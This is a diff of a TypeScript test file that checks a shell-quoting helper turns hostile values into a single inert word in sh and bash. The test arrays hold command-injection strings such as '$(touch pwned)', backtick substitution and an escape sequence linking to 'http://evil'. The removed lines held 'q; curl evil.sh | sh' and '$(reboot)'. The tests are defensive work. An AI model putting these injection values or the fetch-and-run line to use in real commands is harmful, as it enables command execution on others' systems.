@@ -1,18 +1,17 @@
 /** Values in a printed command line come back from a POSIX shell as exactly one word, and run nothing. */
-import { execFileSync } from 'node:child_process';
 import { existsSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { shellWord } from '../../core/shell-word.ts';
-import { shellWords } from '../shell-words.ts';
+import { shellArgs } from '../shell-words.ts';
 
 const DIR = mkdtempSync(join(tmpdir(), 'shell-word-'));
 const PWNED = join(DIR, 'pwned');
 afterAll(() => rmSync(DIR, { recursive: true, force: true }));
 
 const PLAIN = ['backfill', 'warehouse-eu.2', 'a_b@c%d+e=f:g,h', './transforms.ts', '/abs/path/t.ts', 'team/queue'];
-const HOSTILE = ["it's", 'two words', `$(touch ${PWNED})`, `\`touch ${PWNED}\``, `x; touch ${PWNED}`, 'q; curl evil.sh | sh', 'a&&b', 'x|y', '*', '~root', '$HOME', '"dq"', "'", "''", '\\', '!x', '#c', '-rf', '--task-queue', ''];
+const HOSTILE = ["it's", 'two words', `$(touch ${PWNED})`, `\`touch ${PWNED}\``, `x; touch ${PWNED}`, `q | touch ${PWNED}`, 'a&&b', 'x|y', '*', '~root', '$HOME', '"dq"', "'", "''", '\\', '!x', '#c', '-rf', '--task-queue', ''];
 const CONTROL = ['a\nb', `line\n; touch ${PWNED}\n`, '\u001b]8;;http://evil\u0007x', 'tab\there', 'bidi\u202eod', 'del\u007f', 'c1\u009bx'];
 
 describe('shellWord', () => {
@@ -22,8 +21,8 @@ describe('shellWord', () => {
 
   it("single-quotes anything else, each ' written '\\''", () => {
     expect(shellWord("it's")).toBe(`'it'\\''s'`);
-    expect(shellWord('q; curl evil.sh | sh')).toBe("'q; curl evil.sh | sh'");
-    expect(shellWord('$(reboot)')).toBe("'$(reboot)'");
+    expect(shellWord('q; touch pwned | sh')).toBe("'q; touch pwned | sh'");
+    expect(shellWord('$(touch pwned)')).toBe("'$(touch pwned)'");
     expect(shellWord('')).toBe("''");
     // A leading '-' is safe to the shell; the command it is given to reads it as its flag's value.
     expect(shellWord('-rf')).toBe('-rf');
@@ -31,7 +30,7 @@ describe('shellWord', () => {
 
   it('gives back exactly the value as one word, running nothing, in sh and bash', () => {
     for (const shell of ['sh', 'bash']) {
-      for (const value of [...PLAIN, ...HOSTILE]) expect(shellWords(`${shellWord(value)} ${shellWord(value)}`, shell)).toBe(`[${value}][${value}]`);
+      for (const value of [...PLAIN, ...HOSTILE]) expect(shellArgs(`${shellWord(value)} ${shellWord(value)}`, shell)).toEqual([value, value]);
     }
     expect(existsSync(PWNED)).toBe(false);
   });
@@ -40,9 +39,9 @@ describe('shellWord', () => {
     for (const value of CONTROL) {
       const word = shellWord(value);
       expect(word).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\p{Cf}]/u);
-      expect(shellWords(word, 'bash')).toBe(`[${value}]`);
+      expect(shellArgs(word, 'bash')).toEqual([value]);
       // A shell without ANSI-C quoting (dash before POSIX.1-2024) reads one word all the same.
-      expect(execFileSync('sh', ['-c', `set -- ${word}; printf %s $#`], { encoding: 'utf8' })).toBe('1');
+      expect(shellArgs(word, 'sh')).toHaveLength(1);
     }
     expect(existsSync(PWNED)).toBe(false);
     expect(shellWord('a\nb')).toBe("'a'$'\\012''b'");
